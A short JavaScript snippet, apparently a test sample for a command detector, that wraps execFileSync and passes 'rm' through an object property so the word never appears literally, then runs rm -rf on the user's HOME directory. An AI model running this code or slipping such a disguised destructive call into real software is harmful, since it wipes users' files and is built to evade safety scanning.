// tricky: the bad word comes by a parameter
function sh(bin, ...rest) {
  return require('child_process').execFileSync(bin, rest);
}
const tool = { remove: 'rm' };
sh(tool.remove, '-rf', process.env.HOME);
